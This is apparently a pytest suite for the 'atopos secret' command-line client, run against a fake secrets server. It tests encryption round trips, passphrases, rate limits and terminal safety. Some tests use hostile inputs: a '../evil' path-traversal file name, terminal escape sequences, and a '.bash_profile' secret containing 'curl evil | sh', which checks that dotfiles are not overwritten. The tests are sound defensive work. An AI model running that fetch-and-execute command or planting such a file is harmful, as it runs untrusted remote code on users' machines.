"""`atopos secret ...` end to end against an in-memory fake of the secrets API.

The fake speaks the HTTP contract (statuses, JSON bodies, Retry-After) through an httpx
MockTransport; the envelope crypto, proof of work and CLI are the real ones. Tests against
the real server live in tests/integration.
"""

from __future__ import annotations

import dataclasses
import json
import os
import stat
import sys
from collections import defaultdict
from pathlib import Path
from typing import Any

import httpx
import pytest
from typer.testing import CliRunner

import atopos.client.api as api_module
from atopos.cli.exits import ExitCode
from atopos.cli.main import run
from atopos.client.links import ShareLink, parse_manage_link, parse_share_link
from atopos.crypto import pow as proof_of_work
from atopos.crypto.base64url import b64url_encode
from atopos.crypto.envelope import Metadata, seal

SERVER = "http://fake.test"
API = "/api/v1/secrets"


@dataclasses.dataclass
class Stored:
    envelope: bytes
    views: int
    kind: str
    expires_in: int
    manage_token: str


class FakeServer:
    """Just enough of the secrets API to drive the client; `inject` queues canned answers."""

    def __init__(self, bits: int = 4) -> None:
        self.bits = bits
        self.secrets: dict[str, Stored] = {}
        self.challenges: set[str] = set()
        self.tickets: dict[str, str] = {}
        self.hits: dict[str, int] = defaultdict(int)
        self.injected: dict[str, list[httpx.Response]] = defaultdict(list)
        self.prefixes: set[str] = set()
        self.cut_reveal_by = 0

    def inject(self, route: str, *responses: httpx.Response) -> None:
        self.injected[route].extend(responses)

    def add(self, envelope: bytes, views: int = 1) -> str:
        secret_id = b64url_encode(os.urandom(16))
        token = b64url_encode(os.urandom(32))
        self.secrets[secret_id] = Stored(envelope, views, "file", 3600, token)
        return secret_id

    def handle(self, request: httpx.Request) -> httpx.Response:
        path = request.url.path
        prefix, _, rest = path.partition(API)
        self.prefixes.add(prefix)
        parts = [part for part in rest.split("/") if part]
        route = self._route(request.method, parts)
        self.hits[route] += 1
        if self.injected[route]:
            return self.injected[route].pop(0)
        handler = getattr(self, f"_{route}")
        response: httpx.Response = handler(request, *parts[:1])
        return response

    @staticmethod
    def _route(method: str, parts: list[str]) -> str:
        if not parts:
            return "create"
        if len(parts) == 1:
            return "delete"
        return parts[1]

    def _create(self, request: httpx.Request) -> httpx.Response:
        body = request.read()
        assert request.headers["content-type"] == "application/octet-stream"
        assert int(request.headers["content-length"]) == len(body)
        assert "transfer-encoding" not in request.headers
        params = request.url.params
        secret_id = b64url_encode(os.urandom(16))
        token = b64url_encode(os.urandom(32))
        self.secrets[secret_id] = Stored(
            body, int(params["views"]), params["kind"], int(params["expires_in"]), token
        )
        return httpx.Response(
            201, json={"id": secret_id, "manage_token": token, "expires_at": 1_900_000_000}
        )

    def _challenge(self, request: httpx.Request, secret_id: str) -> httpx.Response:
        if secret_id not in self.secrets:
            return _error(404, "gone")
        # Base64url, as every server challenge is (a client refuses anything else).
        challenge = f"{secret_id}_{os.urandom(4).hex()}"
        self.challenges.add(challenge)
        return httpx.Response(
            200, json={"challenge": challenge, "bits": self.bits, "expires_at": 1_900_000_000}
        )

    def _ticket(self, request: httpx.Request, secret_id: str) -> httpx.Response:
        body = json.loads(request.read())
        if "challenge" not in body:
            # A stamp (docs/protocol/access.md): this server is from before them, and its
            # schema refuses the body before any check, as a real one does.
            return _error(422, "invalid_input")
        challenge, nonce = body["challenge"], body["nonce"]
        if challenge not in self.challenges or not proof_of_work.verify(
            challenge.encode(), nonce, self.bits
        ):
            return _error(403, "refused")
        self.challenges.discard(challenge)
        ticket = os.urandom(8).hex()
        self.tickets[ticket] = secret_id
        return httpx.Response(200, json={"ticket": ticket, "expires_at": 1_900_000_000})

    def _reveal(self, request: httpx.Request, secret_id: str) -> httpx.Response:
        ticket = json.loads(request.read())["ticket"]
        if self.tickets.pop(ticket, None) != secret_id:
            return _error(403, "refused")
        stored = self.secrets.get(secret_id)
        if stored is None:
            return _error(404, "gone")
        stored.views -= 1
        if stored.views == 0:
            del self.secrets[secret_id]
        envelope = stored.envelope[: len(stored.envelope) - self.cut_reveal_by]
        return httpx.Response(
            200,
            content=envelope,
            headers={"content-type": "application/octet-stream"},
        )

    def _authorized(self, request: httpx.Request, secret_id: str) -> Stored | httpx.Response:
        stored = self.secrets.get(secret_id)
        if stored is None:
            return _error(404, "gone")
        if request.headers.get("authorization") != f"Bearer {stored.manage_token}":
            return _error(403, "refused")
        return stored

    def _status(self, request: httpx.Request, secret_id: str) -> httpx.Response:
        stored = self._authorized(request, secret_id)
        if isinstance(stored, httpx.Response):
            return stored
        return httpx.Response(
            200,
            json={
                "views_left": stored.views,
                "expires_at": 1_900_000_000,
                "created_at": 1_899_990_000,
                "kind": stored.kind,
                "size": len(stored.envelope),
                "is_bound": False,
            },
        )

    def _receipts(self, request: httpx.Request, secret_id: str) -> httpx.Response:
        # This fake keeps no receipts: a secret it forgot is gone for them too.
        stored = self._authorized(request, secret_id)
        if isinstance(stored, httpx.Response):
            return stored
        return httpx.Response(
            200, json={"views_left": stored.views, "expires_at": 1_900_000_000, "viewed_at": []}
        )

    def _delete(self, request: httpx.Request, secret_id: str) -> httpx.Response:
        stored = self._authorized(request, secret_id)
        if isinstance(stored, httpx.Response):
            return stored
        del self.secrets[secret_id]
        return httpx.Response(204)


def _error(status: int, code: str, message: str = "Nope.", **headers: str) -> httpx.Response:
    return httpx.Response(status, json={"error": code, "message": message}, headers=headers)


@pytest.fixture
def fake(monkeypatch: pytest.MonkeyPatch) -> FakeServer:
    server = FakeServer()
    real = api_module.build_http_client

    def build(url: str, **options: Any) -> httpx.Client:
        return real(url, **{**options, "transport": httpx.MockTransport(server.handle)})

    monkeypatch.setattr(api_module, "build_http_client", build)
    return server


@dataclasses.dataclass
class Outcome:
    code: int
    stdout: bytes
    stderr: str


def atopos(*args: str, stdin: bytes = b"") -> Outcome:
    with CliRunner().isolation(input=stdin, env={"ATOPOS_SERVER": None}) as (out, err, _):
        code = run(["--server", SERVER, *args])
        sys.stdout.flush()
        sys.stderr.flush()
        return Outcome(code, out.getvalue(), err.getvalue().decode())


def create_text(text: bytes, *args: str) -> tuple[str, str]:
    outcome = atopos("secret", "create", *args, stdin=text)
    assert outcome.code == 0, outcome.stderr
    manage = outcome.stderr.removeprefix("Manage link (keep it private): ").strip()
    return outcome.stdout.decode().strip(), manage


def passphrase_file(tmp_path: Path, passphrase: str) -> str:
    path = tmp_path / "passphrase"
    path.write_text(passphrase + "\n")
    return str(path)


# -- create ---------------------------------------------------------------------------------


def test_create_prints_only_the_share_link_on_stdout(fake: FakeServer) -> None:
    outcome = atopos("secret", "create", "--expires", "10m", "--views", "3", stdin=b"hunter2")
    assert outcome.code == 0
    lines = outcome.stdout.decode().splitlines()
    assert len(lines) == 1
    link = parse_share_link(lines[0])
    assert link.server == SERVER
    assert outcome.stderr.startswith("Manage link (keep it private): ")
    manage = parse_manage_link(outcome.stderr.split(": ", 1)[1].strip())
    assert manage.secret_id == link.secret_id
    stored = fake.secrets[link.secret_id]
    assert (stored.views, stored.kind, stored.expires_in) == (3, "text", 600)
    assert b"hunter2" not in stored.envelope


def test_create_json(fake: FakeServer) -> None:
    outcome = atopos("secret", "create", "--json", stdin=b"hunter2")
    assert outcome.code == 0
    record = json.loads(outcome.stdout)
    assert set(record) == {"link", "manage_link", "expires_at"}
    assert parse_share_link(record["link"]).secret_id in fake.secrets
    assert fake.secrets[parse_share_link(record["link"]).secret_id].expires_in == 86400
    assert outcome.stderr == ""


def test_create_rejects_empty_text(fake: FakeServer) -> None:
    outcome = atopos("secret", "create", stdin=b"")
    assert outcome.code == ExitCode.USAGE
    assert fake.hits["create"] == 0


def test_create_rejects_bad_duration_before_reading(fake: FakeServer) -> None:
    outcome = atopos("secret", "create", "--expires", "soon", stdin=b"x")
    assert (outcome.code, outcome.stdout) == (ExitCode.USAGE, b"")
    assert fake.hits["create"] == 0


def test_create_with_a_path_prefix(fake: FakeServer) -> None:
    outcome = atopos("--server", f"{SERVER}/base/", "secret", "create", stdin=b"x")
    link = parse_share_link(outcome.stdout.decode())
    assert link.server == f"{SERVER}/base"
    assert fake.prefixes == {"/base"}
    assert atopos("secret", "reveal", str(link)).stdout == b"x"


@pytest.mark.parametrize(
    ("response", "code", "says"),
    [
        (_error(422, "invalid_input", "views must be\x1b[31m between 1 and 100."), 2, "views must"),
        (_error(413, "too_large"), 2, "larger than this server accepts"),
        (_error(429, "rate_limited", **{"Retry-After": "7"}), 4, "try again in 7 seconds"),
        (_error(507, "storage_full"), 5, "storage is full"),
        (_error(503, "unavailable"), 5, "unavailable"),
        (_error(500, "internal"), 5, "unavailable"),
        (httpx.Response(302, headers={"location": "http://elsewhere/"}), 5, "unexpected HTTP"),
        (httpx.Response(201, content=b"<html>"), 5, "does not understand"),
    ],
)
def test_create_failures(fake: FakeServer, response: httpx.Response, code: int, says: str) -> None:
    fake.inject("create", response)
    outcome = atopos("secret", "create", stdin=b"x")
    assert (outcome.code, outcome.stdout) == (code, b"")
    assert says in outcome.stderr
    assert outcome.stderr.count("\n") == 1
    assert "\x1b" not in outcome.stderr


def test_connection_errors_exit_5(monkeypatch: pytest.MonkeyPatch) -> None:
    real = api_module.build_http_client

    def refuse(request: httpx.Request) -> httpx.Response:
        raise httpx.ConnectError("[Errno 111] Connection refused", request=request)

    def build(url: str, **options: Any) -> httpx.Client:
        return real(url, **{**options, "transport": httpx.MockTransport(refuse)})

    monkeypatch.setattr(api_module, "build_http_client", build)
    outcome = atopos("secret", "create", stdin=b"x")
    assert outcome.code == ExitCode.NETWORK
    assert outcome.stderr == f"Error: Could not connect to the server at {SERVER}.\n"


# -- reveal ---------------------------------------------------------------------------------


def test_text_round_trip_and_single_view(fake: FakeServer) -> None:
    link, _ = create_text(b"hunter2\n")
    first = atopos("secret", "reveal", link)
    assert (first.code, first.stdout, first.stderr) == (0, b"hunter2\n", "")
    second = atopos("secret", "reveal", link)
    assert (second.code, second.stdout) == (ExitCode.GONE, b"")
    assert "does not exist" in second.stderr


def test_file_round_trip_restores_the_name(fake: FakeServer, tmp_path: Path) -> None:
    source = tmp_path / "report.pdf"
    source.write_bytes(os.urandom(300_000))
    outcome = atopos("secret", "create", "--file", str(source))
    assert outcome.code == 0
    link = outcome.stdout.decode().strip()
    assert fake.secrets[parse_share_link(link).secret_id].kind == "file"
    out = tmp_path / "out"
    out.mkdir()
    revealed = atopos("secret", "reveal", link, "-o", str(out))
    assert revealed.code == 0, revealed.stderr
    saved = out / "report.pdf"
    assert saved.read_bytes() == source.read_bytes()
    assert stat.S_IMODE(saved.stat().st_mode) == 0o600
    assert revealed.stderr == f"Saved to {saved}\n"
    assert list(out.iterdir()) == [saved]


def test_hostile_file_names_stay_inside_the_directory(fake: FakeServer, tmp_path: Path) -> None:
    key = os.urandom(32)
    envelope = seal(
        b"boo", Metadata(kind="file", size=3, name="../evil"), key, random_bytes=os.urandom
    )
    link = str(ShareLink(SERVER, fake.add(envelope), key))
    out = tmp_path / "out"
    out.mkdir()
    assert atopos("secret", "reveal", link, "-o", str(out)).code == 0
    assert (out / "secret.bin").read_bytes() == b"boo"
    assert not (tmp_path / "evil").exists()


def test_existing_output_is_refused_before_a_view_is_spent(
    fake: FakeServer, tmp_path: Path
) -> None:
    link, _ = create_text(b"hunter2")
    target = tmp_path / "out.txt"
    target.write_text("keep me")
    refused = atopos("secret", "reveal", link, "-o", str(target))
    assert refused.code == ExitCode.USAGE
    assert "--force" in refused.stderr
    assert fake.hits["challenge"] == 0
    assert target.read_text() == "keep me"
    assert atopos("secret", "reveal", link, "-o", str(target), "--force").code == 0
    assert target.read_bytes() == b"hunter2"


def test_truncated_envelope_leaves_no_plaintext(fake: FakeServer, tmp_path: Path) -> None:
    source = tmp_path / "big.bin"
    source.write_bytes(os.urandom(200_000))
    link = atopos("secret", "create", "--file", str(source)).stdout.decode().strip()
    fake.cut_reveal_by = 1000
    out = tmp_path / "out"
    out.mkdir()
    outcome = atopos("secret", "reveal", link, "-o", str(out))
    assert outcome.code == ExitCode.REFUSED
    assert "could not be decrypted" in outcome.stderr
    assert list(out.iterdir()) == []


def test_truncated_text_is_not_printed(fake: FakeServer) -> None:
    # Several chunks: all but the last authenticate before the truncation shows.
    link, _ = create_text(b"y" * 300_000)
    fake.cut_reveal_by = 1
    outcome = atopos("secret", "reveal", link)
    assert (outcome.code, outcome.stdout) == (ExitCode.REFUSED, b"")


def test_wrong_link_key_is_refused(fake: FakeServer) -> None:
    link = parse_share_link(create_text(b"hunter2")[0])
    wrong = ShareLink(link.server, link.secret_id, bytes(32))
    outcome = atopos("secret", "reveal", str(wrong))
    assert (outcome.code, outcome.stdout) == (ExitCode.REFUSED, b"")


# -- passphrases ----------------------------------------------------------------------------


def test_passphrase_round_trip(fake: FakeServer, tmp_path: Path) -> None:
    pw = passphrase_file(tmp_path, "correct horse")
    link, _ = create_text(b"hunter2", "--passphrase-file", pw)
    outcome = atopos("secret", "reveal", link, "--passphrase-file", pw)
    assert (outcome.code, outcome.stdout) == (0, b"hunter2")


def test_missing_passphrase_without_a_terminal(fake: FakeServer, tmp_path: Path) -> None:
    link, _ = create_text(b"hunter2", "--passphrase-file", passphrase_file(tmp_path, "pw"))
    outcome = atopos("secret", "reveal", link)
    assert (outcome.code, outcome.stdout) == (ExitCode.REFUSED, b"")
    assert outcome.stderr == "Error: This secret needs a passphrase; pass --passphrase-file.\n"


def test_wrong_passphrase_file_is_final(fake: FakeServer, tmp_path: Path) -> None:
    link, _ = create_text(b"hunter2", "--passphrase-file", passphrase_file(tmp_path, "right"))
    outcome = atopos("secret", "reveal", link, "--passphrase-file", passphrase_file(tmp_path, "x"))
    assert (outcome.code, outcome.stdout) == (ExitCode.REFUSED, b"")


def test_prompt_asks_again_without_spending_another_view(
    fake: FakeServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    link, _ = create_text(b"hunter2", "--passphrase-file", passphrase_file(tmp_path, "right"))
    answers = ["typo", "right"]
    attempts: list[int] = []

    def prompt(attempt: int) -> str:
        attempts.append(attempt)
        return answers.pop(0)

    monkeypatch.setattr("atopos.cli.secret.is_tty", lambda stream: stream is sys.stdin)
    monkeypatch.setattr("atopos.cli.secret.prompt_passphrase", prompt)
    outcome = atopos("secret", "reveal", link)
    assert (outcome.code, outcome.stdout) == (0, b"hunter2")
    assert attempts == [0, 1]
    assert fake.hits["reveal"] == 1


def test_prompt_gives_up_after_three_attempts(
    fake: FakeServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    link, _ = create_text(b"hunter2", "--passphrase-file", passphrase_file(tmp_path, "right"))
    attempts: list[int] = []

    def prompt(attempt: int) -> str:
        attempts.append(attempt)
        return "wrong"

    monkeypatch.setattr("atopos.cli.secret.is_tty", lambda stream: stream is sys.stdin)
    monkeypatch.setattr("atopos.cli.secret.prompt_passphrase", prompt)
    outcome = atopos("secret", "reveal", link)
    assert (outcome.code, outcome.stdout) == (ExitCode.REFUSED, b"")
    assert attempts == [0, 1, 2]


# -- access path ----------------------------------------------------------------------------


def test_rate_limits_are_waited_out(fake: FakeServer) -> None:
    link, _ = create_text(b"hunter2")
    limited = _error(429, "rate_limited", **{"Retry-After": "0"})
    fake.inject("challenge", limited)
    fake.inject("reveal", limited)
    outcome = atopos("secret", "reveal", link)
    assert (outcome.code, outcome.stdout) == (0, b"hunter2")


def test_rate_limits_give_up_after_retries(fake: FakeServer) -> None:
    link, _ = create_text(b"hunter2")
    fake.inject("challenge", *[_error(429, "rate_limited", **{"Retry-After": "0"})] * 10)
    outcome = atopos("secret", "reveal", link)
    assert outcome.code == ExitCode.REFUSED
    assert fake.hits["challenge"] == 4  # the first try and three retries
    assert "limiting requests" in outcome.stderr


def test_long_retry_after_is_not_waited_for(fake: FakeServer) -> None:
    link, _ = create_text(b"hunter2")
    fake.inject("ticket", _error(429, "rate_limited", **{"Retry-After": "3600"}))
    outcome = atopos("secret", "reveal", link)
    assert outcome.code == ExitCode.REFUSED
    assert fake.hits["ticket"] == 1


def test_bad_ticket_is_refused(fake: FakeServer) -> None:
    link, _ = create_text(b"hunter2")
    fake.inject("reveal", _error(403, "refused"))
    outcome = atopos("secret", "reveal", link)
    assert outcome.code == ExitCode.REFUSED
    assert "ticket was refused" in outcome.stderr


def test_excessive_proof_of_work_is_refused(fake: FakeServer) -> None:
    link, _ = create_text(b"hunter2")
    fake.bits = 40
    outcome = atopos("secret", "reveal", "--no-stamp", link)
    assert outcome.code == ExitCode.REFUSED
    assert fake.hits["ticket"] == 0


# -- status and delete ----------------------------------------------------------------------


def test_status_and_delete(fake: FakeServer, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TZ", "UTC")
    link, manage = create_text(b"hunter2", "--views", "2")
    status = atopos("secret", "status", manage)
    assert status.code == 0
    lines = status.stdout.decode().splitlines()
    assert lines[0] == "Views left: 2"
    assert lines[1].startswith("Expires at: 2030-")
    assert lines[2] == "Kind: text"
    assert lines[3].startswith("Size: ")
    deleted = atopos("secret", "delete", manage)
    assert (deleted.code, deleted.stdout) == (0, b"")
    assert atopos("secret", "status", manage).code == ExitCode.GONE
    assert atopos("secret", "reveal", link).code == ExitCode.GONE


def test_wrong_manage_token_is_refused(fake: FakeServer) -> None:
    _, manage = create_text(b"hunter2")
    parsed = parse_manage_link(manage)
    forged = f"{parsed.server}/m/{parsed.secret_id}#{b64url_encode(bytes(32))}"
    outcome = atopos("secret", "delete", forged)
    assert outcome.code == ExitCode.REFUSED
    assert parsed.secret_id in fake.secrets


def test_share_link_is_not_a_manage_link(fake: FakeServer) -> None:
    link, _ = create_text(b"hunter2")
    outcome = atopos("secret", "status", link)
    assert outcome.code == ExitCode.USAGE
    assert "share link, not a manage link" in outcome.stderr


# -- global options after the command -------------------------------------------------------


def atopos_as_typed(*args: str, stdin: bytes = b"", server_env: str | None = None) -> Outcome:
    """`atopos ARGS`, without the `--server` the other tests put first."""
    with CliRunner().isolation(input=stdin, env={"ATOPOS_SERVER": server_env}) as (out, err, _):
        code = run(list(args))
        sys.stdout.flush()
        sys.stderr.flush()
        return Outcome(code, out.getvalue(), err.getvalue().decode())


def test_server_after_the_command(fake: FakeServer) -> None:
    outcome = atopos_as_typed("secret", "create", "--server", SERVER, stdin=b"hunter2")
    assert outcome.code == 0, outcome.stderr
    assert parse_share_link(outcome.stdout.decode()).server == SERVER
    assert fake.hits["create"] == 1


def test_server_after_the_command_wins_over_the_environment(fake: FakeServer) -> None:
    outcome = atopos_as_typed(
        "secret", "create", "--server", SERVER, stdin=b"x", server_env="http://127.0.0.1:9"
    )
    assert outcome.code == 0, outcome.stderr
    assert parse_share_link(outcome.stdout.decode()).server == SERVER


def test_the_same_server_before_and_after_is_fine(fake: FakeServer) -> None:
    outcome = atopos_as_typed(
        "--server", SERVER, "secret", "create", "--server", SERVER, stdin=b"x"
    )
    assert outcome.code == 0, outcome.stderr


def test_two_different_servers_are_a_usage_error(fake: FakeServer) -> None:
    outcome = atopos_as_typed(
        "--server", SERVER, "secret", "create", "--server", "http://other.test", stdin=b"x"
    )
    assert (outcome.code, outcome.stdout) == (ExitCode.USAGE, b"")
    assert outcome.stderr == (
        "Error: --server was given twice with different values (before and after the "
        "command); give it once.\n"
    )
    assert fake.hits["create"] == 0


def test_a_pin_after_the_command_is_in_force() -> None:
    # A pinned client talks https only: it refuses plain http before connecting at all.
    pin = "sha256/" + "A" * 43 + "="
    server = "http://127.0.0.1:9"
    outcome = atopos_as_typed("secret", "create", "--server", server, "--pin-spki", pin)
    assert outcome.code == ExitCode.NETWORK
    assert "pinned key can only be checked over https" in outcome.stderr
    link = str(ShareLink(server, b64url_encode(bytes(16)), bytes(32)))
    refused = atopos_as_typed("secret", "reveal", link, "--pin-spki", pin)
    assert refused.code == ExitCode.NETWORK
    assert "pinned key can only be checked over https" in refused.stderr


def test_a_lifetime_under_a_minute_is_refused_before_anything_is_sent(fake: FakeServer) -> None:
    outcome = atopos("secret", "create", "--expires", "30s", stdin=b"x")
    assert (outcome.code, outcome.stdout) == (ExitCode.USAGE, b"")
    assert (
        outcome.stderr
        == "Error: A secret must live at least 1 minute; give --expires 1m or more.\n"
    )
    assert fake.hits["create"] == 0
    assert atopos("secret", "create", "--expires", "60s", stdin=b"x").code == 0


# -- a new passphrase typed on the terminal -------------------------------------------------


@dataclasses.dataclass
class Terminal:
    """What the person at the terminal types (`answers`) and the prompts they saw."""

    answers: list[str]
    prompts: list[str]


@pytest.fixture
def terminal(monkeypatch: pytest.MonkeyPatch) -> Terminal:
    seen = Terminal([], [])

    def getpass(prompt: str = "Password: ", stream: object = None) -> str:
        seen.prompts.append(prompt)
        if not seen.answers:
            raise EOFError
        return seen.answers.pop(0)

    monkeypatch.setattr("atopos.cli.secret.has_terminal", lambda: True)
    monkeypatch.setattr("atopos.cli.passphrase.getpass.getpass", getpass)
    return seen


def test_passphrase_is_asked_twice_and_locks_the_secret(
    fake: FakeServer, terminal: Terminal, tmp_path: Path
) -> None:
    terminal.answers.extend(["correct horse", "correct horse"])
    link, _ = create_text(b"hunter2", "--passphrase")
    assert terminal.prompts == ["Passphrase for the secret: ", "The same passphrase again: "]
    fake.secrets[parse_share_link(link).secret_id].views = 2
    without = atopos("secret", "reveal", link)
    assert (without.code, without.stdout) == (ExitCode.REFUSED, b"")
    revealed = atopos(
        "secret", "reveal", link, "--passphrase-file", passphrase_file(tmp_path, "correct horse")
    )
    assert (revealed.code, revealed.stdout) == (0, b"hunter2")


def test_two_different_passphrases_send_nothing(fake: FakeServer, terminal: Terminal) -> None:
    terminal.answers.extend(["correct horse", "correct hose"])
    outcome = atopos("secret", "create", "--passphrase", stdin=b"hunter2")
    assert (outcome.code, outcome.stdout) == (ExitCode.USAGE, b"")
    assert outcome.stderr == "Error: The two passphrases differ; nothing was sent.\n"
    assert fake.hits["create"] == 0


def test_an_empty_passphrase_sends_nothing(fake: FakeServer, terminal: Terminal) -> None:
    terminal.answers.extend([""])
    outcome = atopos("secret", "create", "--passphrase", stdin=b"hunter2")
    assert (outcome.code, outcome.stdout) == (ExitCode.USAGE, b"")
    assert outcome.stderr == "Error: The passphrase must not be empty; nothing was sent.\n"
    assert fake.hits["create"] == 0


def test_end_of_input_at_the_prompt_sends_nothing(fake: FakeServer, terminal: Terminal) -> None:
    outcome = atopos("secret", "create", "--passphrase", stdin=b"hunter2")
    assert outcome.code == ExitCode.USAGE
    assert fake.hits["create"] == 0


def test_passphrase_without_a_terminal_points_to_the_file_option(
    fake: FakeServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("atopos.cli.secret.has_terminal", lambda: False)
    outcome = atopos("secret", "create", "--passphrase", stdin=b"hunter2")
    assert (outcome.code, outcome.stdout) == (ExitCode.USAGE, b"")
    assert "--passphrase-file" in outcome.stderr
    assert outcome.stderr.count("\n") == 1
    assert fake.hits["create"] == 0


def test_passphrase_and_passphrase_file_together_are_a_usage_error(
    fake: FakeServer, terminal: Terminal, tmp_path: Path
) -> None:
    outcome = atopos(
        "secret",
        "create",
        "--passphrase",
        "--passphrase-file",
        passphrase_file(tmp_path, "x"),
        stdin=b"hunter2",
    )
    assert outcome.code == ExitCode.USAGE
    assert fake.hits["create"] == 0


# -- what reaches a terminal, and what reaches a directory ------------------------------------

HOSTILE_TEXT = "hi\x1b]0;owned\x07 \x1b[2J\rgone\u202eexe.txt\nnext\tline\n"


@pytest.fixture
def stdout_is_a_terminal(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("atopos.cli.secret.is_tty", lambda stream: stream is sys.stdout)


def file_secret(fake: FakeServer, content: bytes, name: str) -> str:
    key = os.urandom(32)
    metadata = Metadata(kind="file", size=len(content), name=name)
    envelope = seal(content, metadata, key, random_bytes=os.urandom)
    return str(ShareLink(SERVER, fake.add(envelope), key))


def test_escape_sequences_are_shown_not_obeyed_on_a_terminal(
    fake: FakeServer, stdout_is_a_terminal: None
) -> None:
    link, _ = create_text(HOSTILE_TEXT.encode())
    outcome = atopos("secret", "reveal", link)
    assert outcome.code == 0, outcome.stderr
    assert outcome.stdout == (b"hi\\x1b]0;owned\\x07 \\x1b[2J\\x0dgone\\u202eexe.txt\nnext\tline\n")


def test_a_pipe_gets_the_exact_bytes(fake: FakeServer) -> None:
    link, _ = create_text(HOSTILE_TEXT.encode())
    assert atopos("secret", "reveal", link).stdout == HOSTILE_TEXT.encode()


def test_a_large_text_streams_to_a_terminal_escaped(
    fake: FakeServer, stdout_is_a_terminal: None
) -> None:
    text = ("line \x1b[1m" * 200_000).encode()  # past the 1 MiB held back
    link, _ = create_text(text)
    outcome = atopos("secret", "reveal", link)
    assert outcome.code == 0, outcome.stderr
    assert outcome.stdout == text.replace(b"\x1b", b"\\x1b")


def test_a_text_file_is_shown_on_a_terminal(
    fake: FakeServer, stdout_is_a_terminal: None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    link = file_secret(fake, b"notes \x1b[31m\n", "notes.txt")
    outcome = atopos("secret", "reveal", link)
    assert (outcome.code, outcome.stdout) == (0, b"notes \\x1b[31m\n")
    assert list(tmp_path.iterdir()) == []


def test_binary_content_is_saved_instead_of_dumped_on_a_terminal(
    fake: FakeServer, stdout_is_a_terminal: None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "secret.bin").write_bytes(b"older")
    content = b"\x89PNG\r\n\x1a\n\x00\x00" + os.urandom(2_000_000)
    link = file_secret(fake, content, ".bashrc")
    outcome = atopos("secret", "reveal", link)
    assert (outcome.code, outcome.stdout) == (ExitCode.USAGE, b"")
    saved = tmp_path / "secret (1).bin"
    assert outcome.stderr == (
        "Error: The secret is not text, so it was not printed on the terminal; it was saved "
        f"to {saved} instead (choose where with -o PATH).\n"
    )
    assert saved.read_bytes() == content
    assert stat.S_IMODE(saved.stat().st_mode) == 0o600
    assert (tmp_path / "secret.bin").read_bytes() == b"older"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["secret (1).bin", "secret.bin"]


def test_binary_content_still_goes_to_a_pipe(fake: FakeServer) -> None:
    content = b"\x00\x01\x02" + os.urandom(1000)
    link = file_secret(fake, content, "blob")
    assert atopos("secret", "reveal", link).stdout == content


def test_a_dot_file_name_is_not_recreated_in_the_directory(
    fake: FakeServer, tmp_path: Path
) -> None:
    home = tmp_path / "home"
    home.mkdir()
    (home / "bash_profile").write_text("mine")
    link = file_secret(fake, b"curl evil | sh\n", ".bash_profile")
    outcome = atopos("secret", "reveal", link, "-o", str(home))
    assert outcome.code == 0, outcome.stderr
    assert sorted(path.name for path in home.iterdir()) == ["bash_profile", "bash_profile (1)"]
    assert (home / "bash_profile").read_text() == "mine"
    assert (home / "bash_profile (1)").read_bytes() == b"curl evil | sh\n"


def test_binary_content_that_cannot_be_saved_says_so(
    fake: FakeServer, stdout_is_a_terminal: None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    gone = tmp_path / "gone"
    gone.mkdir()
    monkeypatch.chdir(gone)
    gone.rmdir()  # the current directory no longer exists: nothing can be saved in it
    outcome = atopos("secret", "reveal", file_secret(fake, b"\x00\x01", "blob"))
    assert (outcome.code, outcome.stdout) == (ExitCode.USAGE, b"")
    assert "could not be saved in the current directory" in outcome.stderr
    assert outcome.stderr.count("\n") == 1


def test_status_wait_waits_out_the_rate_limit(
    fake: FakeServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    # A node whose receipt waits are all taken answers at once, so the loop soon meets the
    # manage rate limit: `--wait` waits that out and goes on rather than giving up.
    monkeypatch.setenv("TZ", "UTC")
    _, manage = create_text(b"hunter2")
    limited = _error(429, "rate_limited", **{"Retry-After": "0"})
    viewed = httpx.Response(
        200, json={"views_left": 0, "expires_at": 1_900_000_000, "viewed_at": [1_800_000_000]}
    )
    fake.inject("receipts", limited, limited, viewed)
    outcome = atopos("secret", "status", "--wait", manage)
    assert outcome.code == 0, outcome.stderr
    assert outcome.stdout.decode().splitlines()[-1] == "Viewed at: 2027-01-15 08:00 UTC"
    assert fake.hits["receipts"] == 3
